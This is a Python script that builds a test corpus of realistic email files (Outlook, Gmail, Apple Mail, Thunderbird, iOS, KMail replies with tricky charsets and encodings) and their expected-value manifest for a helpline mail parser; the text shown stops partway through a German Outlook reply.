"""Write the real-world-shaped email corpus and its manifest.

Run from the repository root:

    uv run python helpline/mail/tests/corpus/make_corpus.py

Every ``*.eml`` file in this folder and ``manifest.json`` are produced here, byte
for byte. Messages are assembled by hand (never with ``email.generator``) so the
quirks real clients produce survive: folded ``Message-ID`` headers, encoded words
split in the middle of a character, mislabelled charsets, quoted-printable soft
breaks inside a UTF-8 sequence, raw 8-bit headers and so on. Line endings are
CRLF throughout. The expected values in the manifest are computed from the same
data that is encoded into the files, and every charset is round-tripped through
Python's codecs before it is written.
"""

# The corpus is full of deliberately "ambiguous" characters (curly quotes, en
# dashes, full-width punctuation, Cyrillic); that is the point of it.
# ruff: noqa: RUF001, RUF003

from __future__ import annotations

import base64
import hashlib
import itertools
import json
import quopri
import struct
import textwrap
import zipfile
import zlib
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
MAX_FILE_SIZE = 50_000
SUPPORT = "Helpline Support <support@helpline.example>"


# --------------------------------------------------------------------------
# Small byte-level helpers (encoders only; nothing here parses mail)
# --------------------------------------------------------------------------


def T(text: str) -> str:
    """Dedent a triple-quoted block; lines are joined with LF until write time."""
    return textwrap.dedent(text).lstrip("\n")


def enc(text: str, codec: str) -> bytes:
    """Encode text and prove it round-trips through the same codec."""
    data = text.encode(codec)
    assert data.decode(codec) == text, codec
    assert b"\r" not in data
    # No multi-byte sequence of these codecs may hide a LF byte: the generator
    # turns every LF into CRLF at the end.
    assert data.count(b"\n") == text.count("\n"), codec
    return data


def jis(text: str) -> bytes:
    """ISO-2022-JP, one line at a time so every line ends back in ASCII."""
    lines = [line.encode("iso2022_jp") for line in text.split("\n")]
    for line in lines:
        if b"\x1b$B" in line:
            assert line.rfind(b"\x1b(B") > line.rfind(b"\x1b$B"), line
    data = b"\n".join(lines)
    assert all(byte < 0x80 for byte in data)
    assert data.decode("iso2022_jp") == text
    return data


def b64(data: bytes) -> bytes:
    """Base64 in 76-character lines, as every mail client writes it."""
    s = base64.b64encode(data).decode("ascii")
    return ("\n".join(s[i : i + 76] for i in range(0, len(s), 76)) + "\n").encode("ascii")


def b64_text(data: bytes) -> bytes:
    """Base64 of a text body in canonical (CRLF) form."""
    return b64(data.replace(b"\n", b"\r\n"))


def qp(data: bytes, *, lowercase: bool = False) -> bytes:
    """Quoted-printable with 76-column soft breaks; LF in *data* is a hard break."""
    fmt = "={:02x}" if lowercase else "={:02X}"
    out: list[str] = []
    for line in data.split(b"\n"):
        tokens = []
        for i, byte in enumerate(line):
            last = i == len(line) - 1
            if (
                byte == 0x3D
                or byte > 0x7E
                or (byte < 0x20 and byte != 0x09)
                or (byte in (0x09, 0x20) and last)
            ):
                tokens.append(fmt.format(byte))
            else:
                tokens.append(chr(byte))
        current = ""
        for token in tokens:
            if len(current) + len(token) > 75:
                out.append(current + "=")
                current = ""
            current += token
        out.append(current)
    encoded = "\n".join(out).encode("ascii")
    decoded = quopri.decodestring(encoded.replace(b"\n", b"\r\n"))
    assert decoded == data.replace(b"\n", b"\r\n")
    return encoded


def ew_b(charset: str, data: bytes) -> str:
    return f"=?{charset}?B?{base64.b64encode(data).decode('ascii')}?="


Q_SAFE = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def ew_q(charset: str, data: bytes) -> str:
    body = "".join("_" if b == 0x20 else chr(b) if b in Q_SAFE else f"={b:02X}" for b in data)
    return f"=?{charset}?Q?{body}?="


def ew_words(text: str, charset: str, cuts: list[int], kind: str = "B") -> list[str]:
    """Encode *text* as adjacent encoded words cut at the given byte offsets."""
    data = enc(text, charset)
    bounds = [0, *cuts, len(data)]
    chunks = [data[a:b] for a, b in itertools.pairwise(bounds)]
    assert b"".join(chunks).decode(charset) == text
    maker = ew_b if kind == "B" else ew_q
    words = [maker(charset, chunk) for chunk in chunks]
    assert all(len(w) <= 75 for w in words), words
    return words


def pct(data: bytes) -> str:
    """RFC 2231 percent-encoding (attribute-char stays literal)."""
    safe = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$&+-.^_`|~")
    return "".join(chr(b) if b in safe else f"%{b:02X}" for b in data)


def ical_fold(line: str) -> list[str]:
    """RFC 5545 folding: at most 75 octets per line, never inside a character."""
    out: list[str] = []
    current = ""
    for char in line:
        limit = 75 if not out else 74  # continuation lines start with a space
        if len(current.encode()) + len(char.encode()) > limit:
            out.append(current)
            current = ""
        current += char
    out.append(current)
    return [out[0]] + [" " + rest for rest in out[1:]]


def mp(boundary: str, *parts: bytes, preamble: str = "", epilogue: str = "") -> bytes:
    """A multipart body. Each part's content ends exactly where its bytes end."""
    assert 1 <= len(boundary) <= 70
    out = [preamble.encode("ascii")] if preamble else []
    for p in parts:
        assert f"--{boundary}".encode() not in p
        out += [f"--{boundary}\n".encode("ascii"), p, b"\n"]
    out.append(f"--{boundary}--\n".encode("ascii"))
    if epilogue:
        out.append(epilogue.encode("ascii"))
    return b"".join(out)


def part(headers: str, body: bytes) -> bytes:
    return T(headers).encode("ascii") + b"\n" + body


def assemble(*chunks: str | bytes) -> bytes:
    data = b"".join(c.encode("ascii") if isinstance(c, str) else c for c in chunks)
    assert b"\r" not in data, "build with LF; CRLF is applied here"
    return data.replace(b"\n", b"\r\n")


# --------------------------------------------------------------------------
# Small, valid binary attachments
# --------------------------------------------------------------------------


def make_pdf(text: str) -> bytes:
    """A one-page PDF with a correct xref table."""
    content = b"BT /F1 18 Tf 72 770 Td (" + text.encode("ascii") + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    assert out.startswith(b"%PDF-")
    return out


def make_png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG using a stored (uncompressed) zlib stream: reproducible."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    raw = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    assert len(raw) < 65536
    stored = b"\x78\x01" + b"\x01" + struct.pack("<HH", len(raw), len(raw) ^ 0xFFFF)
    stored += raw + struct.pack(">I", zlib.adler32(raw))
    assert zlib.decompress(stored) == raw
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stored) + chunk(b"IEND", b"")
    )


def make_docx(paragraph: str) -> bytes:
    """A minimal but valid .docx (stored zip, fixed timestamps)."""
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>"
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p></w:body></w:document>"
        ),
    }
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, text in files.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 23, 9, 0, 0))
            info.create_system = 3
            info.external_attr = 0o644 << 16
            archive.writestr(info, text.encode("utf-8"))
    data = buffer.getvalue()
    assert data.startswith(b"PK\x03\x04")
    return data


# --------------------------------------------------------------------------
# Manifest entries
# --------------------------------------------------------------------------


@dataclass
class Case:
    file: str
    raw: bytes
    meta: dict[str, Any]


def att(
    filename: str,
    content_type: str,
    data: bytes,
    *,
    inline: bool = False,
    content_id: str | None = None,
) -> dict[str, Any]:
    return {
        "filename": filename,
        "content_type": content_type,
        "size": len(data),
        "inline": inline,
        "content_id": content_id,
    }


def case(
    file: str,
    raw: bytes,
    *,
    description: str,
    from_address: str,
    from_name: str | None,
    subject: str,
    message_id: str | None,
    in_reply_to: str | None = None,
    references: list[str] | None = None,
    text_contains: list[str] | None = None,
    reply_text: str | None = None,
    attachments: list[dict[str, Any]] | None = None,
    html_must_not_contain: list[str] | None = None,
    is_auto_reply: bool = False,
    is_bounce: bool = False,
    bounce_original_message_id: str | None = None,
    charset_note: str | None = None,
    plain: str | None = None,
) -> Case:
    """*plain* is the decoded text body as encoded into the file, used to check
    that every ``text_contains`` string (and a non-flowed ``reply_text``) is
    really there. It is not written to the manifest."""
    text_contains = text_contains or []
    if plain is not None:
        for needle in text_contains:
            assert needle in plain, (file, needle)
        if reply_text is not None:
            assert reply_text in plain, (file, "reply_text")
    if reply_text is not None:
        assert reply_text == reply_text.strip(), file
    return Case(
        file,
        raw,
        {
            "file": file,
            "description": description,
            "from_address": from_address,
            "from_name": from_name,
            "subject": subject,
            "message_id": message_id,
            "in_reply_to": in_reply_to,
            "references": references or [],
            "text_contains": text_contains,
            "reply_text": reply_text,
            "attachments": attachments or [],
            "html_must_not_contain": html_must_not_contain or [],
            "is_auto_reply": is_auto_reply,
            "is_bounce": is_bounce,
            "bounce_original_message_id": bounce_original_message_id,
            "charset_note": charset_note,
        },
    )


# --------------------------------------------------------------------------
# Replies from real clients
# --------------------------------------------------------------------------


def reply_outlook() -> Case:
    reply = T("""
        Hi,

        That’s fixed it – the printer on the 3rd floor is back online. Thanks for the quick help!

        Kind regards,
        Jane Doe
        Facilities Coordinator | Example Corp
        """).strip()
    plain = (
        reply
        + "\n\n"
        + T("""
        ________________________________
        From: Helpline Support <support@helpline.example>
        Sent: Monday, November 23, 2026 10:00 AM
        To: Jane Doe <jane.doe@example.com>
        Subject: [#1042] Printer offline on 3rd floor

        Hi Jane,

        Could you switch the printer off and on again and tell us whether the status light turns green?

        Thanks,
        Helpline Support
        """)
    )
    html = T("""
        <html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
        <head>
        <meta http-equiv="Content-Type" content="text/html; charset=utf-8">
        <meta name="Generator" content="Microsoft Word 15 (filtered medium)">
        <style><!--
        /* Font Definitions */
        @font-face
        \t{font-family:"Cambria Math";
        \tpanose-1:2 4 5 3 5 4 6 3 2 4;}
        @font-face
        \t{font-family:Aptos;}
        /* Style Definitions */
        p.MsoNormal, li.MsoNormal, div.MsoNormal
        \t{margin:0cm;
        \tfont-size:12.0pt;
        \tfont-family:"Aptos",sans-serif;}
        .MsoChpDefault
        \t{mso-style-type:export-only;}
        div.WordSection1
        \t{page:WordSection1;}
        --></style>
        </head>
        <body lang="EN-GB" link="#467886" vlink="#96607D" style="word-wrap:break-word">
        <div class="WordSection1">
        <p class="MsoNormal">Hi,<o:p></o:p></p>
        <p class="MsoNormal"><o:p>&nbsp;</o:p></p>
        <p class="MsoNormal">That’s fixed it – the printer on the 3rd floor is back online. Thanks for the quick help!<o:p></o:p></p>
        <p class="MsoNormal"><o:p>&nbsp;</o:p></p>
        <p class="MsoNormal">Kind regards,<o:p></o:p></p>
        <p class="MsoNormal">Jane Doe<o:p></o:p></p>
        <p class="MsoNormal"><span style="font-size:10.0pt;color:#595959">Facilities Coordinator | Example Corp<o:p></o:p></span></p>
        <p class="MsoNormal"><o:p>&nbsp;</o:p></p>
        <div id="mail-editor-reference-message-container">
        <div>
        <div style="border:none;border-top:solid #B5C4DF 1.0pt;padding:3.0pt 0cm 0cm 0cm">
        <p class="MsoNormal" style="margin-bottom:12.0pt"><b><span style="color:black">From: </span></b><span style="color:black">Helpline Support &lt;support@helpline.example&gt;<br>
        <b>Sent: </b>Monday, November 23, 2026 10:00 AM<br>
        <b>To: </b>Jane Doe &lt;jane.doe@example.com&gt;<br>
        <b>Subject: </b>[#1042] Printer offline on 3rd floor<o:p></o:p></span></p>
        </div>
        <p class="MsoNormal">Hi Jane,<o:p></o:p></p>
        <p class="MsoNormal"><o:p>&nbsp;</o:p></p>
        <p class="MsoNormal">Could you switch the printer off and on again and tell us whether the status light turns green?<o:p></o:p></p>
        <p class="MsoNormal"><o:p>&nbsp;</o:p></p>
        <p class="MsoNormal">Thanks,<o:p></o:p></p>
        <p class="MsoNormal">Helpline Support<o:p></o:p></p>
        </div>
        </div>
        </div>
        </body>
        </html>
        """)
    mid = "AM9PR03MB7154F1A2B3C4D5E6F7A8B9C0D1E2F3A4B@AM9PR03MB7154.eurprd03.prod.outlook.example"
    boundary = "_000_AM9PR03MB7154F1A2B3C4D5E6F7A8B9C0D1E2F3A4BAM9PR03MB7154eurp_"
    headers = T(f"""
        Received: from AM9PR03MB7154.eurprd03.prod.outlook.example (2001:db8:20b:2f1::9) by
         AM0PR03MB6323.eurprd03.prod.outlook.example with HTTPS; Mon, 23 Nov 2026
         10:42:18 +0000
        From: Jane Doe <jane.doe@example.com>
        To: Helpline Support <support@helpline.example>
        Subject: RE: [#1042] Printer offline on 3rd floor
        Thread-Topic: [#1042] Printer offline on 3rd floor
        Thread-Index: AQHbPV5vFq3m0n8Ck0yUQ5bHvJ7k1bKxW7sA
        Date: Mon, 23 Nov 2026 10:42:17 +0000
        Message-ID:
         <{mid}>
        References: <ticket-1042.msg-7@helpline.example>
        In-Reply-To: <ticket-1042.msg-7@helpline.example>
        Accept-Language: en-GB, en-US
        Content-Language: en-GB
        X-MS-Has-Attach:
        X-MS-TNEF-Correlator:
        msip_labels:
        x-ms-publictraffictype: Email
        x-ms-traffictypediagnostic: AM9PR03MB7154:EE_|AM0PR03MB6323:EE_
        Content-Type: multipart/alternative;
        \tboundary="{boundary}"
        MIME-Version: 1.0
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain; charset="utf-8"
            Content-Transfer-Encoding: base64
            """,
            b64_text(enc(plain, "utf-8")),
        ),
        part(
            """
            Content-Type: text/html; charset="utf-8"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html, "utf-8")),
        ),
    )
    return case(
        "reply_outlook.eml",
        assemble(headers, "\n", body),
        description="Outlook (Microsoft 365) top-posted reply: multipart/alternative, base64 UTF-8 text, quoted-printable Word HTML with <style>, folded Message-ID, Thread-Index, empty X-MS-Has-Attach/X-MS-TNEF-Correlator headers, '____' + From:/Sent:/To:/Subject: quote header.",
        from_address="jane.doe@example.com",
        from_name="Jane Doe",
        subject="RE: [#1042] Printer offline on 3rd floor",
        message_id=mid,
        in_reply_to="ticket-1042.msg-7@helpline.example",
        references=["ticket-1042.msg-7@helpline.example"],
        text_contains=["That’s fixed it – the printer on the 3rd floor is back online."],
        reply_text=reply,
        html_must_not_contain=["<style", "<script"],
        charset_note="UTF-8 in base64 (text) and quoted-printable (HTML); ’ and – are multi-byte.",
        plain=plain,
    )


def reply_gmail() -> Case:
    reply = "Thanks — resetting the password worked, I'm in now.\n\nSam"
    plain = (
        reply
        + "\n\n"
        + T("""
        On Mon, 23 Nov 2026 at 10:00, Helpline Support <
        support@helpline.example> wrote:

        > Hi Sam,
        >
        > We've sent a password reset link to sam.carter@example.com. Let us know
        > if it doesn't arrive within a few minutes.
        >
        > Helpline Support
        >
        """)
    )
    html = (
        '<div dir="ltr">Thanks — resetting the password worked, I&#39;m in now.<div><br></div>'
        "<div>Sam</div></div><br>"
        '<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">'
        "On Mon, 23 Nov 2026 at 10:00, Helpline Support &lt;"
        '<a href="mailto:support@helpline.example">support@helpline.example</a>&gt; wrote:<br>'
        '</div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
        'border-left:1px solid rgb(204,204,204);padding-left:1ex"><div>Hi Sam,<br><br>'
        "We&#39;ve sent a password reset link to "
        '<a href="mailto:sam.carter@example.com" target="_blank">sam.carter@example.com</a>. '
        "Let us know if it doesn&#39;t arrive within a few minutes.<br><br>"
        "Helpline Support<br></div></blockquote></div>\n"
    )
    mid = "CAJx7Qk2dN9pV+Hq3Lr0tZ5mE8fWbY1sG6aU4cK7oR2iXnT9vMw@mail.gmail.example"
    boundary = "000000000000e4a1b2062a5f3c71"
    headers = T(f"""
        MIME-Version: 1.0
        References: <ticket-1043.msg-1@helpline.example> <ticket-1043.msg-2@helpline.example>
        In-Reply-To: <ticket-1043.msg-2@helpline.example>
        From: Sam Carter <sam.carter@example.com>
        Date: Mon, 23 Nov 2026 11:05:31 +0000
        Message-ID: <{mid}>
        Subject: Re: [#1043] Can't log in to the portal
        To: Helpline Support <support@helpline.example>
        Content-Type: multipart/alternative; boundary="{boundary}"
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain; charset="UTF-8"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(plain, "utf-8")) + b"\n",
        ),
        part(
            """
            Content-Type: text/html; charset="UTF-8"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html, "utf-8")) + b"\n",
        ),
    )
    return case(
        "reply_gmail.eml",
        assemble(headers, "\n", body),
        description="Gmail reply: '>' quoted plain text whose 'On ... wrote:' attribution is hard-wrapped by Gmail after '<' (two lines), HTML with div.gmail_quote / blockquote.gmail_quote.",
        from_address="sam.carter@example.com",
        from_name="Sam Carter",
        subject="Re: [#1043] Can't log in to the portal",
        message_id=mid,
        in_reply_to="ticket-1043.msg-2@helpline.example",
        references=["ticket-1043.msg-1@helpline.example", "ticket-1043.msg-2@helpline.example"],
        text_contains=["Thanks — resetting the password worked, I'm in now."],
        reply_text=reply,
        charset_note="UTF-8 quoted-printable; em dash is =E2=80=94.",
        plain=plain,
    )


def reply_apple_mail() -> Case:
    reply = "Perfect, the new profile works. I’ll keep an eye on it over the weekend.\n\nPriya"
    plain = (
        reply
        + "\n\n"
        + T("""
        On 23 Nov 2026, at 11:00, Helpline Support <support@helpline.example> wrote:

        > Hi Priya,
        >\x20
        > Please install the attached VPN profile and reconnect.
        >\x20
        > Helpline Support
        >\x20
        """)
    )
    html = T("""
        <html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Perfect, the new profile works. I’ll keep an eye on it over the weekend.<div><br></div><div>Priya<br id="lineBreakAtBeginningOfMessage"><div><br><blockquote type="cite"><div>On 23 Nov 2026, at 11:00, Helpline Support &lt;support@helpline.example&gt; wrote:</div><br class="Apple-interchange-newline"><div><div>Hi Priya,<br><br>Please install the attached VPN profile and reconnect.<br><br>Helpline Support</div></div></blockquote></div><br></div></body></html>
        """)
    boundary = "Apple-Mail=_8E2B7C41-5D3A-4F6B-9C1E-2A7D0F3B6E95"
    mid = "4C1F8E2A-93B7-4D0E-A6F5-1B2C3D4E5F60@example.org"
    headers = T(f"""
        Content-Type: multipart/alternative;
        \tboundary="{boundary}"
        Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
        Subject: Re: [#1044] VPN drops every hour
        From: Priya Natarajan <priya@example.org>
        In-Reply-To: <ticket-1044.msg-3@helpline.example>
        Date: Mon, 23 Nov 2026 12:14:09 +0100
        Cc: it-team@example.org
        Content-Transfer-Encoding: 7bit
        Message-Id: <{mid}>
        References: <ticket-1044.msg-1@helpline.example>
         <ticket-1044.msg-3@helpline.example>
        To: Helpline Support <support@helpline.example>
        X-Mailer: Apple Mail (2.3826.200.121)

        """)
    body = mp(
        boundary,
        part(
            """
            Content-Transfer-Encoding: quoted-printable
            Content-Type: text/plain;
            \tcharset=utf-8
            """,
            qp(enc(plain, "utf-8")),
        ),
        part(
            """
            Content-Transfer-Encoding: quoted-printable
            Content-Type: text/html;
            \tcharset=utf-8
            """,
            qp(enc(html, "utf-8")),
        ),
    )
    return case(
        "reply_apple_mail.eml",
        assemble(headers, "\n", body),
        description="Apple Mail (macOS) reply: 'On 23 Nov 2026, at 11:00, X <x> wrote:' attribution, '>=20' quoted blank lines, HTML blockquote type=cite, Message-Id spelled in Apple's case, a '7bit' CTE on the multipart, References folded.",
        from_address="priya@example.org",
        from_name="Priya Natarajan",
        subject="Re: [#1044] VPN drops every hour",
        message_id=mid,
        in_reply_to="ticket-1044.msg-3@helpline.example",
        references=["ticket-1044.msg-1@helpline.example", "ticket-1044.msg-3@helpline.example"],
        text_contains=["I’ll keep an eye on it over the weekend."],
        reply_text=reply,
        charset_note="UTF-8 quoted-printable.",
        plain=plain,
    )


def reply_thunderbird() -> Case:
    wire = T("""
        On 23/11/2026 11:00, Helpline Support wrote:
        > Hi Marek,
        >
        > Which mailbox do you need access to, and should it be read-only or\x20
        > full access?
        >
        > Helpline Support

        It's the finance@example.org mailbox, and I need full access so I can\x20
        reply on behalf of the team. My manager Zoë has already approved it.

        Thanks,
        Marek
        """)
    reply = (
        "It's the finance@example.org mailbox, and I need full access so I can reply on "
        "behalf of the team. My manager Zoë has already approved it.\n\nThanks,\nMarek"
    )
    mid = "7b3e9c1a-2f4d-4e8a-9b61-0c5d2e7f8a93@example.org"
    headers = T(f"""
        Message-ID: <{mid}>
        Date: Mon, 23 Nov 2026 13:30:45 +0100
        MIME-Version: 1.0
        User-Agent: Mozilla Thunderbird
        Subject: Re: [#1045] Shared mailbox permissions
        To: Helpline Support <support@helpline.example>
        References: <ticket-1045.msg-2@helpline.example>
        Content-Language: en-GB
        From: Marek Nowak <marek.nowak@example.org>
        In-Reply-To: <ticket-1045.msg-2@helpline.example>
        Content-Type: text/plain; charset=UTF-8; format=flowed
        Content-Transfer-Encoding: 8bit
        """)
    return case(
        "reply_thunderbird_bottom_posted.eml",
        assemble(headers, "\n", enc(wire, "utf-8")),
        description="Thunderbird, bottom-posted (Thunderbird's default): attribution and quote come first, the answer below. text/plain format=flowed, 8bit UTF-8; the answer's first paragraph is one flowed line split by a trailing-space soft break.",
        from_address="marek.nowak@example.org",
        from_name="Marek Nowak",
        subject="Re: [#1045] Shared mailbox permissions",
        message_id=mid,
        in_reply_to="ticket-1045.msg-2@helpline.example",
        references=["ticket-1045.msg-2@helpline.example"],
        text_contains=["My manager Zoë has already approved it.", "finance@example.org mailbox"],
        reply_text=reply,
        charset_note="8bit UTF-8, format=flowed (RFC 3676): reply_text is the unflowed text.",
        plain=wire.replace("or \n> full", "or full").replace("can \nreply", "can reply"),
    )


def reply_signature() -> Case:
    reply = T("""
        Hello,

        the invoice number is INV-2026-0815 and the payment was made on 20 November.

        Best regards
        Tomasz
        """).strip()
    plain = (
        reply
        + "\n\n"
        + T("""
        --\x20
        Tomasz Kowalski
        Accounts Payable | Example Sp. z o.o.
        https://www.example.com

        On 2026-11-23 11:00, Helpline Support wrote:
        > Hello Tomasz,
        >
        > could you send us the invoice number?
        >
        > Helpline Support
        """)
    )
    mid = "0f6c2a7e91b34d58a2c1e9f07b6d3a45@webmail.example.com"
    headers = T(f"""
        MIME-Version: 1.0
        Date: Mon, 23 Nov 2026 11:18:02 +0100
        From: Tomasz Kowalski <tomasz.kowalski@example.com>
        To: Helpline Support <support@helpline.example>
        Subject: Re: [#1046] Payment not showing
        In-Reply-To: <ticket-1046.msg-1@helpline.example>
        References: <ticket-1046.msg-1@helpline.example>
        Message-ID: <{mid}>
        X-Sender: tomasz.kowalski@example.com
        User-Agent: Roundcube Webmail/1.6.9
        Content-Type: text/plain; charset=US-ASCII;
         format=flowed
        Content-Transfer-Encoding: 7bit
        """)
    return case(
        "reply_signature_dashdash.eml",
        assemble(headers, "\n", enc(plain, "ascii")),
        description="Roundcube top-posted reply with a standard '-- ' signature placed above the quoted history (format=flowed; the '-- ' line is the RFC 3676 signature separator, not a flowed line).",
        from_address="tomasz.kowalski@example.com",
        from_name="Tomasz Kowalski",
        subject="Re: [#1046] Payment not showing",
        message_id=mid,
        in_reply_to="ticket-1046.msg-1@helpline.example",
        references=["ticket-1046.msg-1@helpline.example"],
        text_contains=["INV-2026-0815"],
        reply_text=reply,
        charset_note="US-ASCII, 7bit.",
        plain=plain,
    )


def reply_iphone() -> Case:
    reply = "Yes, 3pm tomorrow works. I’ll bring the charger too."
    plain = (
        reply
        + "\n\nSent from my iPhone\n\n"
        + T("""
        > On 23 Nov 2026, at 10:00, Helpline Support <support@helpline.example> wrote:
        >\x20
        > \ufeffHi Luis,
        >\x20
        > Can you bring the laptop to the service desk tomorrow at 3pm?
        >\x20
        > Helpline Support
        """)
    )
    mid = "9A7C2B1E-4F3D-4B8A-8E6C-D5F0A1B2C3D4@example.com"
    headers = T(f"""
        Content-Type: text/plain;
        \tcharset=utf-8
        Content-Transfer-Encoding: quoted-printable
        From: Luis Ortega <luis.ortega@example.com>
        Mime-Version: 1.0 (1.0)
        Date: Mon, 23 Nov 2026 05:02:11 -0500
        Subject: Re: [#1047] Laptop won't charge
        Message-Id: <{mid}>
        References: <ticket-1047.msg-2@helpline.example>
        In-Reply-To: <ticket-1047.msg-2@helpline.example>
        To: Helpline Support <support@helpline.example>
        X-Mailer: iPhone Mail (22B91)
        """)
    return case(
        "reply_iphone.eml",
        assemble(headers, "\n", qp(enc(plain, "utf-8"))),
        description="iOS Mail reply: 'Sent from my iPhone' mobile signature, then a '>'-quoted attribution line; the first quoted body line starts with U+FEFF (=EF=BB=BF), which iOS really inserts.",
        from_address="luis.ortega@example.com",
        from_name="Luis Ortega",
        subject="Re: [#1047] Laptop won't charge",
        message_id=mid,
        in_reply_to="ticket-1047.msg-2@helpline.example",
        references=["ticket-1047.msg-2@helpline.example"],
        text_contains=["I’ll bring the charger too."],
        reply_text=reply,
        charset_note="UTF-8 quoted-printable, includes a BOM character inside the quote.",
        plain=plain,
    )


def reply_german_kmail() -> Case:
    reply = T("""
        Hallo Helpline-Team,

        vielen Dank für die schnelle Hilfe! Der Drucker im Büro 3.14 funktioniert wieder.
        Könnten Sie bitte noch prüfen, ob der Toner für das Büro bestellt wurde?

        Viele Grüße
        Jürgen Weiß
        """).strip()
    plain = (
        reply
        + "\n\n"
        + T("""
        Am Montag, 23. November 2026, 11:00:00 CET schrieb Helpline Support:
        > Hallo Herr Weiß,
        >
        > bitte starten Sie den Drucker einmal neu und geben Sie uns Bescheid.
        >
        > Mit freundlichen Grüßen
        > Helpline Support
        """)
    )
    name = ew_q("ISO-8859-1", enc("Jürgen Weiß", "latin-1"))
    subject_word = ew_q("ISO-8859-1", enc("Drucker im Büro", "latin-1"))
    mid = "4127733.fMbWaYhs8T@werkstatt-pc.example.com"
    headers = T(f"""
        From: {name} <juergen.weiss@example.com>
        To: Helpline Support <support@helpline.example>
        Subject: Re: [#1048] {subject_word} 3.14 druckt nicht
        Date: Mon, 23 Nov 2026 11:20:05 +0100
        Message-ID: <{mid}>
        Organization: Example GmbH
        User-Agent: KMail/5.22.3 (Linux/6.1.0-28-amd64; KDE/5.115.0; x86_64)
        In-Reply-To: <ticket-1048.msg-2@helpline.example>
        References: <ticket-1048.msg-1@helpline.example> <ticket-1048.msg-2@helpline.example>
        MIME-Version: 1.0
        Content-Transfer-Encoding: quoted-printable
        Content-Type: text/plain; charset="iso-8859-1"
        """)
    return case(
        "reply_german_kmail.eml",
        assemble(headers, "\n", qp(enc(plain, "latin-1"))),
        description="German top-posted reply from KMail: 'Am Montag, 23. November 2026, 11:00:00 CET schrieb Helpline Support:' attribution; ISO-8859-1 quoted-printable body; encoded word in the middle of the subject; encoded display name.",
        from_address="juergen.weiss@example.com",
        from_name="Jürgen Weiß",
        subject="Re: [#1048] Drucker im Büro 3.14 druckt nicht",
        message_id=mid,
        in_reply_to="ticket-1048.msg-2@helpline.example",
        references=["ticket-1048.msg-1@helpline.example", "ticket-1048.msg-2@helpline.example"],
        text_contains=["vielen Dank für die schnelle Hilfe!", "Viele Grüße"],
        reply_text=reply,
        charset_note="ISO-8859-1 (ü=FC, ß=DF) quoted-printable; subject/display name in ISO-8859-1 Q encoded words.",
        plain=plain,
    )


def reply_german_outlook() -> Case:
    reply = T("""
        Hallo,

        die Rechnung wurde inzwischen korrigiert – vielen Dank. Der Betrag von 1.250,00 € ist heute überwiesen worden.

        Mit freundlichen Grüßen
        Stefanie Krüger
        """).strip()
    plain = (
        reply
        + "\n\n"
        + T("""
        -----Ursprüngliche Nachricht-----
        Von: Helpline Support <support@helpline.example>\x20
        Gesendet: Montag, 23. November 2026 11:00
